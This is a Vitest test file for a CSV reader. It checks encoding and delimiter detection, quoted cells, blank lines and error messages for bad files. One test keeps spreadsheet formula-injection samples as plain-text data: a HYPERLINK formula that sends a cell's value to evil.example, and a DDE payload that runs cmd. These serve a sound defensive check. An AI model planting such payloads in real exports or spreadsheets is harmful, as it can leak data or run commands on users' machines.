import { describe, expect, it } from 'vitest';
import { AttestError } from '../../../src/errors.js';
import { countCsvRows, openCsv } from '../../../src/ingest/readers/csv/open-csv.js';
import { fixture, readRows, rejection } from './csv-test-helpers.js';

describe('openCsv on real files', () => {
  it('reads a UTF-8 file with a BOM, semicolons, CRLF and a newline inside a quoted cell', async () => {
    const source = await openCsv(fixture('semicolon-bom-quoted-newline.csv'));
    expect(source).toMatchObject({ kind: 'table', encoding: 'utf-8', delimiter: ';', sheet: null, headerLine: 1 });
    expect(source.header).toEqual(['Account', 'Entitlement', 'Notes', 'Owner']);
    expect(source.notes).toEqual(['The columns are separated by semicolons (;).']);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['alice', 'Finance;Read', 'first line\r\nsecond line', 'Zoë'] },
      { line: 4, cells: ['bob', 'Admin', 'plain', 'Jürgen'] },
    ]);
  });

  it('reads UTF-16 LE with a BOM and tabs, including a character outside the BMP', async () => {
    const source = await openCsv(fixture('utf16le-bom-tab.csv'));
    expect(source).toMatchObject({ encoding: 'utf-16le', delimiter: '\t', headerLine: 1 });
    expect(source.header).toEqual(['Account', 'Display Name', 'Group']);
    expect(source.notes).toEqual(['The columns are separated by tabs.']);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['jdoe', 'Jane Doe', 'Domain Admins'] },
      { line: 3, cells: ['mmuller', 'Maria Müller', 'Sales, EMEA 🚀'] },
    ]);
  });

  it('reads UTF-16 BE with a BOM', async () => {
    const source = await openCsv(fixture('utf16be-bom.csv'));
    expect(source).toMatchObject({ encoding: 'utf-16be', delimiter: ',', notes: [] });
    expect(source.header).toEqual(['Account', 'Email']);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['ana', 'ana@example.com'] },
      { line: 3, cells: ['zoë', 'zoe@example.com'] },
    ]);
  });

  it('recognises UTF-16 LE without a BOM by its zero bytes, and says so', async () => {
    const source = await openCsv(fixture('utf16le-no-bom.csv'));
    expect(source.encoding).toBe('utf-16le');
    expect(source.notes).toEqual(['The file has no byte-order mark but looks like UTF-16 LE; it was read as UTF-16 LE.']);
    expect(source.header).toEqual(['Account', 'Email']);
    expect(await readRows(source)).toEqual([{ line: 2, cells: ['ana', 'ana@example.com'] }]);
  });

  it('reads a file that is not valid UTF-8 as Windows-1252 (0x80-0x9F included) and names the first bad byte', async () => {
    const source = await openCsv(fixture('windows-1252-accents.csv'));
    expect(source).toMatchObject({ encoding: 'windows-1252', delimiter: ',' });
    expect(source.notes).toEqual(['The file is not valid UTF-8 (first bad byte at offset 42); it was read as Windows-1252.']);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['jmuller', 'Jürgen Müller', 'Finanzen'] },
      { line: 3, cells: ['fgarcia', 'François García', 'Ventes – Europe'] },
      { line: 4, cells: ['bsmith', 'Bob “Bobby” O’Neil', 'R&D €'] },
    ]);
  });

  it('keeps a BOM-marked file as UTF-8 even when a byte is invalid, and says so', async () => {
    const source = await openCsv(fixture('utf8-bom-invalid-byte.csv'));
    expect(source.encoding).toBe('utf-8');
    expect(source.notes).toEqual([
      'The file is marked as UTF-8 but is not valid UTF-8 (first bad byte at offset 29); the invalid bytes were read as the replacement character �.',
    ]);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['ana', 'Zoë'] },
      { line: 3, cells: ['ben', '\uFFFDlie'] },
    ]);
  });

  it('uses the encoding it is given instead of detecting one', async () => {
    const source = await openCsv(fixture('semicolon-bom-quoted-newline.csv'), { encoding: 'windows-1252' });
    expect(source.encoding).toBe('windows-1252');
    expect(source.notes).toEqual(['The columns are separated by semicolons (;).']);
    expect(source.header[0]).toBe('ï»¿Account');
    expect((await readRows(source))[0]?.cells[3]).toBe('ZoÃ«');
  });

  it('detects a pipe delimiter, ignoring commas in cells and a pipe inside quotes', async () => {
    const source = await openCsv(fixture('pipe-delimited.csv'));
    expect(source).toMatchObject({ delimiter: '|', notes: ['The columns are separated by vertical bars (|).'] });
    expect(source.header).toEqual(['Account', 'Role', 'Privileged']);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['root', 'Admin, Full', 'true'] },
      { line: 3, cells: ['svc_backup', 'Backup|Restore', 'false'] },
    ]);
  });

  it('uses the delimiter it is given', async () => {
    const source = await openCsv(fixture('pipe-delimited.csv'), { delimiter: ',' });
    expect(source).toMatchObject({ delimiter: ',', notes: [] });
    expect(source.header).toEqual(['Account|Role|Privileged']);
    expect((await readRows(source))[0]).toEqual({ line: 2, cells: ['root|Admin', ' Full|true'] });
  });

  it('unescapes doubled quotes, keeps a stray quote in an unquoted cell, and counts lines inside quoted cells', async () => {
    const source = await openCsv(fixture('crlf-embedded-quotes.csv'));
    expect(source).toMatchObject({ encoding: 'utf-8', delimiter: ',', notes: [], headerLine: 1 });
    expect(source.header).toEqual(['Account', 'Comment', 'Size']);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['alice', 'He said "hi"', '1'] },
      { line: 3, cells: ['bob', '5" screen', '2'] },
      { line: 4, cells: ['carol', '', '3'] },
      { line: 5, cells: ['dave', '"quoted"', '4'] },
      { line: 6, cells: ['erin', 'multi\r\nline "x"', '5'] },
      { line: 8, cells: ['frank', 'abcd', '6'] },
      { line: 9, cells: ['grace', 'last', '7'] },
    ]);
  });

  it('ends records at a lone CR, also after a CR inside a quoted cell', async () => {
    const source = await openCsv(fixture('lone-cr.csv'));
    expect(source.header).toEqual(['Account', 'Status']);
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['ana', 'active'] },
      { line: 3, cells: ['ben', 'on\rleave'] },
      { line: 5, cells: ['cy', 'inactive'] },
    ]);
  });

  it('yields ragged rows as they are, for the caller to report', async () => {
    const source = await openCsv(fixture('ragged-rows.csv'));
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['a1', 'a1@example.com', 'active'] },
      { line: 3, cells: ['a2', 'a2@example.com'] },
      { line: 4, cells: ['a3', 'a3@example.com', 'active', 'extra', 'more'] },
      { line: 5, cells: ['a4'] },
      { line: 6, cells: ['', '', ''] },
    ]);
  });

  it('skips blank and whitespace-only lines; the header is the first non-blank line', async () => {
    const source = await openCsv(fixture('blank-lines.csv'));
    expect(source.headerLine).toBe(3);
    expect(source.header).toEqual(['Account', 'Status']);
    expect(await readRows(source)).toEqual([
      { line: 5, cells: ['ana', 'active'] },
      { line: 8, cells: ['ben', 'disabled'] },
    ]);
  });

  it('reads a header-only file as a header and no rows', async () => {
    const source = await openCsv(fixture('header-only.csv'));
    expect(source.header).toEqual(['Account', 'Email', 'Status']);
    expect(await readRows(source)).toEqual([]);
    expect(await countCsvRows(fixture('header-only.csv'))).toBe(0);
  });

  it('keeps formula-like cells as plain text', async () => {
    const source = await openCsv(fixture('formula-cells.csv'));
    expect(source.delimiter).toBe(',');
    expect(await readRows(source)).toEqual([
      { line: 2, cells: ['mallory', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '-2', '@SUM(A1:A9)'] },
      { line: 3, cells: ['eve', '=1+2', "=cmd|' /C calc'!A0", '\t-3', ''] },
    ]);
  });

  it('can be iterated again, and stops early without leaking when the caller breaks', async () => {
    const source = await openCsv(fixture('crlf-embedded-quotes.csv'));
    for await (const row of source.rows()) {
      expect(row.line).toBe(2);
      break;
    }
    expect(await readRows(source)).toHaveLength(7);
  });

  it('counts data rows', async () => {
    expect(await countCsvRows(fixture('crlf-embedded-quotes.csv'))).toBe(7);
    expect(await countCsvRows(fixture('semicolon-bom-quoted-newline.csv'))).toBe(2);
  });
});

describe('openCsv refusals', () => {
  async function failure(name: string): Promise<AttestError> {
    const source = openCsv(fixture(name)).then(readRows);
    const error = await rejection(source);
    expect(error).toBeInstanceOf(AttestError);
    return error as AttestError;
  }

  it('names the line where an unterminated quoted cell opens, after yielding the rows before it', async () => {
    const source = await openCsv(fixture('unterminated-quote.csv'));
    const seen: number[] = [];
    const error = await rejection(
      (async () => {
        for await (const row of source.rows()) seen.push(row.line);
      })(),
    );
    expect(seen).toEqual([2]);
    expect(error).toMatchObject({ code: 'CORRUPT_FILE' });
    expect((error as Error).message).toBe(
      '"unterminated-quote.csv": the quoted cell that opens on line 3 is never closed, so the file ends inside it. Close the quote (or remove the stray ") on that line, or export the file again.',
    );
  });

  it('refuses binary files', async () => {
    const error = await failure('binary-garbage.csv');
    expect(error.code).toBe('NOT_TEXT');
    expect(error.message).toBe('"binary-garbage.csv" does not look like a text file (it contains NUL bytes); export it as CSV and try again.');
  });

  it('refuses a file of control characters', async () => {
    const error = await failure('control-characters.csv');
    expect(error.code).toBe('NOT_TEXT');
    expect(error.message).toBe('"control-characters.csv" does not look like a text file (83% of its first characters are control characters); export it as CSV and try again.');
  });

  it('refuses empty and whitespace-only files', async () => {
    for (const name of ['empty.csv', 'whitespace-only.csv']) {
      const error = await failure(name);
      expect(error.code).toBe('EMPTY_FILE');
      expect(error.message).toBe(`"${name}" is empty: it has no header row and no data. Export the data again (with its header row) and import that file.`);
    }
  });

  it('says when the file does not exist or is a folder', async () => {
    expect(await rejection(openCsv(fixture('no-such-file.csv')))).toMatchObject({ code: 'NOT_FOUND' });
    expect(await rejection(openCsv(fixture('')))).toMatchObject({ code: 'USAGE' });
  });
});
